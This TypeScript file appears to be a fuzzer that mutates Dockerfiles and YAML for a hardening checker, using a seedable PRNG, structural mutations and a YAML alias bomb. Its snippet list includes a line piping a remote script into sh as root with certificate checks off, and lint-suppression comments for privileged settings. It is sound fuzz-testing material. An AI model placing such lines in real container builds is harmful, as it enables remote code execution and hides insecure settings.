// Structure-aware mutations of Dockerfiles and YAML for fuzzing. Deterministic for a given seed.

/** A small, fast, seedable PRNG (mulberry32). */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type Mutation = (text: string, r: () => number) => string;

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
const int = (r: () => number, lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));

function mapLines(text: string, f: (lines: string[], r: () => number) => void, r: () => number): string {
  const lines = text.split('\n');
  if (lines.length) f(lines, r);
  return lines.join('\n');
}

const SNIPPETS = [
  '\t',
  '{{ .Values.image }}',
  '{{- if .Values.enabled }}',
  '{{ end }}',
  '&anchor ',
  '*anchor',
  '<<: *anchor',
  '---',
  '...',
  '\0',
  '\uFFFD\uFFFD',
  '\uD800',
  '\r',
  '- ',
  ': ',
  '[',
  '{',
  '"',
  "'",
  '\\',
  '#',
  '# harden-ignore privileged',
  '# harden-ignore-file',
  'privileged: true',
  'securityContext:',
  'USER root',
  'RUN sudo curl -k https://x.example/ | sh',
  'FROM ',
  '<<EOF',
  'EOF',
  '$(',
  '${VAR:-',
];

export const MUTATIONS: Record<string, Mutation> = {
  deleteLine: (t, r) => mapLines(t, (ls) => void ls.splice(int(r, 0, ls.length - 1), 1), r),
  duplicateLine: (t, r) =>
    mapLines(t, (ls) => {
      const i = int(r, 0, ls.length - 1);
      ls.splice(i, 0, ls[i]);
    }, r),
  swapLines: (t, r) =>
    mapLines(t, (ls) => {
      const i = int(r, 0, ls.length - 1);
      const j = int(r, 0, ls.length - 1);
      [ls[i], ls[j]] = [ls[j], ls[i]];
    }, r),
  reindent: (t, r) =>
    mapLines(t, (ls) => {
      const i = int(r, 0, ls.length - 1);
      const d = int(r, -4, 4);
      ls[i] = d >= 0 ? ' '.repeat(d) + ls[i] : ls[i].replace(new RegExp(`^ {0,${-d}}`), '');
    }, r),
  tabIndent: (t, r) =>
    mapLines(t, (ls) => {
      const i = int(r, 0, ls.length - 1);
      ls[i] = '\t' + ls[i];
    }, r),
  cut: (t, r) => t.slice(0, int(r, 0, t.length)),
  insertSnippet: (t, r) => {
    const i = int(r, 0, t.length);
    return t.slice(0, i) + pick(r, SNIPPETS) + t.slice(i);
  },
  insertLine: (t, r) =>
    mapLines(t, (ls) => {
      const i = int(r, 0, ls.length);
      const indent = ' '.repeat(int(r, 0, 8));
      ls.splice(i, 0, indent + pick(r, SNIPPETS));
    }, r),
  longScalar: (t, r) => {
    const i = int(r, 0, t.length);
    return t.slice(0, i) + 'x'.repeat(int(r, 1000, 100_000)) + t.slice(i);
  },
  deepNesting: (t, r) => {
    const n = int(r, 50, 2000);
    const kind = int(r, 0, 2);
    const deep = kind === 0 ? '['.repeat(n) + ']'.repeat(n) : kind === 1 ? Array.from({ length: n }, (_, k) => ' '.repeat(k) + 'k:').join('\n') : '{a: '.repeat(n) + '1' + '}'.repeat(n);
    return t + '\n' + deep + '\n';
  },
  aliasBomb: (t) =>
    t +
    '\n---\n' +
    ['a: &a [x, x, x, x, x, x, x, x, x]', 'b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]', 'c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]', 'd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]', 'e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]', 'f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]', 'g: [*f, *f, *f, *f, *f, *f, *f, *f, *f]'].join('\n') +
    '\n',
  nulBytes: (t, r) => {
    const i = int(r, 0, t.length);
    return t.slice(0, i) + '\0'.repeat(int(r, 1, 4)) + t.slice(i);
  },
  invalidUtf8: (t, r) => {
    // What a decoder makes of invalid UTF-8 (replacement characters), and a lone surrogate.
    const i = int(r, 0, t.length);
    return t.slice(0, i) + pick(r, ['\uFFFD', '\uFFFD\uFFFD\uFFFD', '\uDC00', '\uD83D']) + t.slice(i);
  },
  bom: (t) => '\uFEFF' + t,
  crlf: (t) => t.replace(/\r?\n/g, '\r\n'),
  loneCr: (t) => t.replace(/\r?\n/g, '\r'),
  mixedEol: (t, r) => t.replace(/\r?\n/g, () => pick(r, ['\n', '\r\n', '\r'])),
  documentSeparators: (t, r) =>
    mapLines(t, (ls) => {
      for (let k = int(r, 1, 5); k > 0; k--) ls.splice(int(r, 0, ls.length), 0, pick(r, ['---', '...', '--- # c', '--- !!map']));
    }, r),
};

export const MUTATION_NAMES = Object.keys(MUTATIONS);

/** Apply 1 to `max` random mutations. Returns the text and the names applied. */
export function mutate(text: string, r: () => number, max = 3): { text: string; applied: string[] } {
  let t = text;
  const applied: string[] = [];
  for (let k = int(r, 1, max); k > 0; k--) {
    const name = pick(r, MUTATION_NAMES);
    t = MUTATIONS[name](t, r);
    applied.push(name);
  }
  return { text: t, applied };
}
